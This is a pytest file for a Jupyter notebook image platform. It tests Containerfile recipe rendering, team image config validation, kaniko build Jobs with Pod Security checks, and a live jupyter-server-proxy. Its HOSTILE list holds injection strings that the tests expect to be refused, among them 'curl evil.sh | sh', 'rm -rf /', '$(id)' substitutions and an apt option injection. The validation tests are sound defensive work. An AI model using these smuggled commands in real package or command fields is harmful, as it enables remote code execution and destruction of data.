"""The notebook images: the managed image's recipe, team images (their config, rendering, build Job, the
spawn form's choice) and Jupyter Server Proxy serving a team's web app from the generated config.

Gap, named: no Docker, BuildKit, kaniko or registry runs here, so no image is built or pushed; the
recipes are checked by parsing them back the way a builder reads a Containerfile (aiinfn.images.
instructions), and the web-app config by a real jupyter-server with the real jupyter-server-proxy
(pinned like the image's) started on it.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import kubernetes_validate
import pytest
import requests
from pydantic import ValidationError
from ruamel.yaml import YAML

from aiinfn import images, versions
from aiinfn.config.loader import load_site
from aiinfn.config.models import TeamImage
from aiinfn.errors import ConfigError
from aiinfn.planning import make_plan
from aiinfn.services import images as image_builds
from aiinfn.services import jupyterhub

#: The Pod Security checks of tests/security (tests/support/security/pss.py: support code, not tests).
sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "support" / "security"))
import pss

ROOT = Path(__file__).resolve().parents[2]
#: A stand-in digest for Apptainer's package (none is pinned yet: versions.APPTAINER_DEB_SHA256).
SHA = "0" * 63 + "1"
TEAM = {"description": "LHC dashboards", "groups": ["ai-infn/lhc"], "pip": ["dash==2.18.2", "uproot>=5,<6"],
        "apt": ["graphviz", "libhdf5-dev=1.10.8+repack1-1"],
        "apps": {"dash": {"command": ["python3", "-m", "lhc_dash", "--port=8050"], "port": 8050,
                          "title": "LHC dashboard"}}}


def _plan(tmp_path: Path, team_images: dict[str, Any]) -> Any:
    path = tmp_path / "cnaf-teams.yaml"
    with path.open("w") as f:
        YAML(typ="safe", pure=True).dump({"extends": str(ROOT / "environments" / "cnaf.yaml"),
                                          "services": {"jupyterhub": {"team_images": team_images}}}, f)
    return make_plan(load_site(path))


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


# --------------------------------------------------------------------------- the managed image


def test_the_managed_recipe_pins_its_parts_and_checks_apptainer_before_installing() -> None:
    r = images.managed_recipe(SHA)
    steps = images.instructions(r.containerfile)
    assert steps[0] == ("FROM", versions.NOTEBOOK_BASE_IMAGE)
    run = " ".join(str(v) for k, v in steps if k == "RUN")
    deb = f"apptainer_{versions.APPTAINER}_amd64.deb"
    assert f"/download/v{versions.APPTAINER}/{deb}" in run
    assert run.index(f"echo '{SHA}  /tmp/apptainer.deb' | sha256sum -c -") < run.index("apt-get install -y "
                                                                                        "--no-install-recommends /tmp")
    assert f'"jupyter-server-proxy=={versions.JUPYTER_SERVER_PROXY}"' in run
    # the test extra pins the same jupyter-server-proxy the image gets (the real one runs below)
    assert f'"jupyter-server-proxy=={versions.JUPYTER_SERVER_PROXY}"' in (ROOT / "pyproject.toml").read_text()
    copied = {v.split()[0] for k, v in steps if k == "COPY"}
    assert copied == set(r.files) and "aiinfn-batch" in r.files and "aiinfn-env" in r.files
    assert steps[-1] == ("USER", str(images.NOTEBOOK_USER)), "the image ends as the notebook user, not root"
    with pytest.raises(ValueError, match="apptainer_sha256"):
        images.managed_recipe("not-a-digest")


# --------------------------------------------------------------------------- team images: rendering


def test_a_team_image_renders_to_exec_form_steps_over_the_managed_image(tmp_path: Path) -> None:
    plan = _plan(tmp_path, {"lhc": TEAM})
    built = image_builds.recipes(plan, SHA)
    (managed, base), (team, ref) = built
    assert team.name == "team-lhc" and ref == f"harbor.ai-infn.cloud.cnaf.infn.it/environments/team-lhc:{team.tag}"
    steps = images.instructions(team.containerfile)
    assert steps[0] == ("FROM", base) and base.endswith(f"{versions.MANAGED_IMAGE_REPOSITORY}:{managed.tag}")
    runs = [v for k, v in steps if k == "RUN"]
    assert all(isinstance(v, list) for v in runs), "every RUN is an argument list (no shell)"
    assert ["apt-get", "install", "-y", "--no-install-recommends", "graphviz", "libhdf5-dev=1.10.8+repack1-1"] in runs
    assert ["python3", "-m", "pip", "install", "--no-cache-dir", "--", "dash==2.18.2", "uproot>=5,<6"] in runs
    apps = json.loads(team.files[images.APPS_FILE])
    assert apps["ServerProxy"]["servers"]["dash"] == {
        "command": ["python3", "-m", "lhc_dash", "--port=8050"], "port": 8050, "absolute_url": False,
        "timeout": 60, "launcher_entry": {"enabled": True, "title": "LHC dashboard"}}
    # the artifacts: build/<env>/images/<recipe>/..., and the same tag for the same inputs
    files = image_builds.artifacts(plan, SHA)
    assert files["images/team-lhc/Containerfile"] == team.containerfile
    assert set(files) >= {"images/managed/Containerfile", "images/managed/aiinfn-batch",
                          "images/team-lhc/aiinfn-apps.json"}
    assert image_builds.recipes(_plan(tmp_path, {"lhc": TEAM}), SHA)[1][1] == ref
    changed = image_builds.recipes(_plan(tmp_path, {"lhc": {**TEAM, "pip": ["dash==2.18.1"]}}), SHA)[1][1]
    assert changed != ref, "another package list is another image"


#: Strings an environment file could carry, each aimed at one field; every one must be refused by the
#: config, with the field named, before anything is rendered.
HOSTILE = [
    ("pip", "dash\nRUN curl evil.sh | sh"), ("pip", "dash; rm -rf /"), ("pip", "--index-url=http://evil/ dash"),
    ("pip", "dash @ https://evil/x.whl"), ("pip", "dash{{ x }}"), ("pip", '"]\nRUN ["sh'), ("pip", "dash$(id)"),
    ("pip", "../evil"), ("apt", "graphviz && curl evil"), ("apt", "-o APT::Update::Pre-Invoke::=id"),
    ("apt", "graphviz\nUSER root"), ("apt", "Graphviz`id`"), ("apt", "x\\"),
    ("command", "sh -c id"), ("command", "$(id)"), ("command", "{port}"), ("command", "a;b"), ("command", "a|b"),
    ("command", "a\nRUN id"), ("command", '"'), ("command", "a>b"), ("command", "a&"), ("command", "--flag-first"),
    ("title", "Dash {{ 7*7 }}"), ("title", "x\ny"), ("title", "<script>"), ("title", "a" * 41),
]


@pytest.mark.parametrize(("field", "value"), HOSTILE)
def test_a_hostile_string_in_a_team_image_is_refused_naming_the_field(field: str, value: str) -> None:
    team: dict[str, Any] = json.loads(json.dumps(TEAM))
    if field in ("pip", "apt"):
        team[field] = [*team[field], value]
    elif field == "command":
        team["apps"]["dash"]["command"] = [value, "x"] if value == "--flag-first" else ["python3", value]
    else:
        team["apps"]["dash"]["title"] = value
    with pytest.raises(ValidationError) as e:
        TeamImage.model_validate(team)
    (err,) = e.value.errors()
    assert err["loc"][:1] == ((field,) if field in ("pip", "apt") else ("apps",)), err
    if field == "title":
        assert err["loc"][-1] == "title"


def test_a_hostile_string_in_the_environment_file_is_one_line_naming_the_field(tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as e:
        _plan(tmp_path, {"lhc": {**TEAM, "pip": ["dash\nRUN curl evil.sh | sh"]}})
    line = str(e.value)
    assert "services.jupyterhub.team_images.lhc.pip" in line and "\n" not in line, line


def test_what_the_models_accept_cannot_add_an_instruction() -> None:
    """The widest strings each field accepts, rendered and parsed back: the instructions are exactly the
    recipe's own, each package one argument of its RUN, the app config data."""
    team = TeamImage.model_validate({
        "groups": ["g"], "pip": ["a-b_c.d[x,y] >= 1.0 , != 1.5 ,< 2"], "apt": ["lib+x.y-z=1:2.3~rc+b1-4"],
        "apps": {"a": {"command": ["/opt/app/bin/x", "--opt=a,b:c@d%e+f", "-v"], "port": 1024,
                       "title": "A (b) c.d-e"}}})
    r = images.team_recipe("t", team, "harbor.example/environments/aiinfn-notebook:0123")
    steps = images.instructions(r.containerfile)
    assert [k for k, _ in steps] == ["FROM", "USER", "RUN", "RUN", "RUN", "RUN", "COPY", "USER"]
    runs = [v for k, v in steps if k == "RUN"]
    assert runs[1][-1] == "lib+x.y-z=1:2.3~rc+b1-4" and runs[3][-1] == "a-b_c.d[x,y] >= 1.0 , != 1.5 ,< 2"
    assert json.loads(r.files[images.APPS_FILE])["ServerProxy"]["servers"]["a"]["command"][1] == "--opt=a,b:c@d%e+f"
    with pytest.raises(ValidationError):
        TeamImage.model_validate({"groups": ["g"], "apps": {"a": {"command": ["x"], "port": 80, "title": "t"}}})
    with pytest.raises(ValidationError, match="notebook server's own path"):
        TeamImage.model_validate({"groups": ["g"], "apps": {"files": {"command": ["x"], "port": 2000, "title": "t"}}})
    with pytest.raises(ValidationError, match="also apps"):
        TeamImage.model_validate({"groups": ["g"], "apps": {n: {"command": ["x"], "port": 2000, "title": "t"}
                                                            for n in ("a", "b")}})


# --------------------------------------------------------------------------- the build and the form


def test_the_build_job_builds_the_managed_image_first_with_the_robot_secret_never_in_the_spec(tmp_path: Path) -> None:
    plan = _plan(tmp_path, {"lhc": TEAM, "astro": {"groups": ["ai-infn/astro"], "pip": ["astropy==7.0.0"]}})
    bundle = image_builds.bundle(plan, SHA)
    assert bundle is not None
    objs = [i.manifest for i in bundle.items]
    ns = next(o for o in objs if o["kind"] == "Namespace")
    assert ns["metadata"]["labels"]["pod-security.kubernetes.io/enforce"] == "baseline"
    job = next(o for o in objs if o["kind"] == "Job" and o["metadata"]["namespace"] == image_builds.NAMESPACE)
    maker = next(o for o in objs if o["kind"] == "Job" and o["metadata"]["namespace"] == "harbor")
    pod = job["spec"]["template"]["spec"]
    names = [c["name"] for c in pod["initContainers"]]
    assert names == ["prepare", "build-managed", "build-team-astro", "build-team-lhc"]
    for c in pod["initContainers"][1:]:
        assert c["image"] == versions.KANIKO_IMAGE
        assert c["securityContext"]["allowPrivilegeEscalation"] is False and "capabilities" not in c["securityContext"]
    assert pod["securityContext"]["seccompProfile"] == {"type": "RuntimeDefault"}
    assert pod["automountServiceAccountToken"] is False
    robot = next(v for v in pod["volumes"] if v["name"] == "robot")
    assert robot["secret"]["secretName"] == image_builds.PUSH_SECRET
    # the Secret is made by the Harbor setup program as a push robot, allowed to write only that Secret
    env = {e["name"]: e["value"] for e in maker["spec"]["template"]["spec"]["containers"][0]["env"]}
    assert env["HARBOR_ROBOT_PUSH_PROJECT"] == "environments" and env["TARGET_SECRET"] == image_builds.PUSH_SECRET
    role = next(o for o in objs if o["kind"] == "Role")
    assert role["metadata"]["namespace"] == image_builds.NAMESPACE
    assert all(r.get("resourceNames") == [image_builds.PUSH_SECRET] or r["verbs"] == ["create"] for r in role["rules"])
    text = json.dumps(objs)
    assert "password\": \"" not in text and "auth\": \"" not in text
    for obj in objs:  # every object as the API server's schema of the pinned Kubernetes accepts it
        kubernetes_validate.validate(obj, versions.KUBERNETES, strict=True)
    # the robot's Job runs in Harbor's namespace (Pod Security restricted), the build in baseline's
    assert pss.violations(maker, "restricted") == [] and pss.violations(job, "baseline") == []
    assert pss.violations(job, "restricted"), "kaniko runs as root: restricted would refuse it"
    # the same inputs, the same Job; another package, another Job (it runs again)
    again = next(i.manifest for i in image_builds.bundle(plan, SHA).items if i.manifest["kind"] == "Job"
                 and i.manifest["metadata"]["namespace"] == image_builds.NAMESPACE)
    assert again["metadata"]["name"] == job["metadata"]["name"]
    other = _plan(tmp_path, {"lhc": {**TEAM, "apt": ["graphviz"]}})
    rebuilt = next(i.manifest for i in image_builds.bundle(other, SHA).items if i.manifest["kind"] == "Job"
                   and i.manifest["metadata"]["namespace"] == image_builds.NAMESPACE)
    assert rebuilt["metadata"]["name"] != job["metadata"]["name"]


def test_team_images_need_harbor_and_a_pinned_apptainer_package(tmp_path: Path) -> None:
    plan = _plan(tmp_path, {"lhc": TEAM})
    if versions.APPTAINER_DEB_SHA256 is None:
        with pytest.raises(ConfigError, match=r"no pinned sha256"):
            image_builds.bundle(plan)
    assert image_builds.bundle(make_plan(load_site("cnaf")), SHA) is None, "no team image, no build"


def test_the_spawn_form_offers_a_team_image_only_to_its_groups(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from aiinfn.hub import spawner

    plan = _plan(tmp_path, {"lhc": TEAM})
    ref = image_builds.team_image_refs(plan, SHA)["lhc"]
    monkeypatch.setattr(image_builds, "team_image_refs", lambda p: {"lhc": ref})  # the stand-in digest's
    settings = jupyterhub.hub_settings(plan)
    assert settings["team_images"] == {"lhc": {"groups": ["ai-infn/lhc"], "image": ref,
                                               "description": "LHC dashboards"}}
    spawner.configure(settings)

    class Fake:
        def __init__(self, groups: set[str]) -> None:
            self.groups = groups

    for groups, offered in (({"ai-infn/lhc"}, True), ({"ai-infn/users"}, False)):
        profile: dict[str, Any] = {"slug": "cpu", "kubespawner_override": {}}
        spawner.PlatformSpawner._add_options(Fake(groups), profile, False)  # type: ignore[arg-type]
        choices = (profile["profile_options"].get("image") or {}).get("choices") or {}
        assert ("lhc" in choices) is offered, (groups, choices)
        if offered:
            assert choices["lhc"]["kubespawner_override"] == {"image": ref}


# --------------------------------------------------------------------------- Jupyter Server Proxy, for real


def test_jupyter_server_proxy_serves_a_declared_app_from_the_generated_config(tmp_path: Path) -> None:
    """A real jupyter-server (run as root here, hence --allow-root; notebooks run as their user) with the
    real jupyter-server-proxy, configured by the files the team image gets (its apps' JSON config and the
    managed image's ``jupyter_server_config.py``): the declared app (Python's
    http.server) answers through the proxied URL, and a managed environment's kernel is discovered."""
    site = tmp_path / "site"
    site.mkdir()
    (site / "hello.txt").write_text("hello from the team's app\n")
    app_port, server_port = _free_port(), _free_port()
    team = TeamImage.model_validate({"groups": ["g"], "apps": {"teamfiles": {
        "command": [sys.executable, "-m", "http.server", "--bind", "127.0.0.1", "--directory", str(site),
                    str(app_port)], "port": app_port, "title": "Team files"}}})
    recipe = images.team_recipe("t", team, "base")
    config = tmp_path / "etc-jupyter"
    config.mkdir()
    (config / Path(images.APPS_PATH).name).write_text(recipe.files[images.APPS_FILE])
    managed = images.managed_recipe(SHA)
    (config / images.SERVER_CONFIG).write_text(managed.files[images.SERVER_CONFIG])
    envs = tmp_path / "envs"
    kernel = envs / "torch" / "current" / "share" / "jupyter" / "kernels" / "aiinfn-torch"
    kernel.mkdir(parents=True)
    (kernel / "kernel.json").write_text(json.dumps({"argv": [sys.executable, "-m", "ipykernel", "-f",
                                                             "{connection_file}"],
                                                    "display_name": "torch (managed)", "language": "python"}))
    token = "t0ken-for-the-test"
    env = {**os.environ, "JUPYTER_CONFIG_PATH": str(config), "JUPYTER_CONFIG_DIR": str(tmp_path / "home-cfg"),
           "JUPYTER_DATA_DIR": str(tmp_path / "data"), "JUPYTER_RUNTIME_DIR": str(tmp_path / "runtime"),
           "AIINFN_ENVS_DIR": str(envs), "HOME": str(tmp_path)}
    log = (tmp_path / "server.log").open("w")
    proc = subprocess.Popen([sys.executable, "-m", "jupyter_server", "--no-browser", "--ip=127.0.0.1",
                             f"--port={server_port}", f"--IdentityProvider.token={token}", "--allow-root",
                             f"--ServerApp.root_dir={tmp_path}"], env=env, stdout=log, stderr=subprocess.STDOUT)
    base = f"http://127.0.0.1:{server_port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                if requests.get(f"{base}/api/status", params={"token": token}, timeout=2).ok:
                    break
            except requests.ConnectionError:
                pass
            assert proc.poll() is None and time.monotonic() < deadline, (tmp_path / "server.log").read_text()
            time.sleep(0.3)
        r = requests.get(f"{base}/teamfiles/hello.txt", params={"token": token}, timeout=60)
        assert r.status_code == 200, (r.status_code, (tmp_path / "server.log").read_text()[-2000:])
        assert r.text == "hello from the team's app\n"
        assert requests.get(f"{base}/teamfiles/hello.txt", timeout=10, allow_redirects=False).status_code in (
            302, 401, 403), "the proxied app needs the notebook's own login"
        specs = requests.get(f"{base}/api/kernelspecs", params={"token": token}, timeout=10).json()["kernelspecs"]
        assert specs["aiinfn-torch"]["spec"]["display_name"] == "torch (managed)"
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=15)
        except subprocess.TimeoutExpired:
            proc.kill()
        log.close()
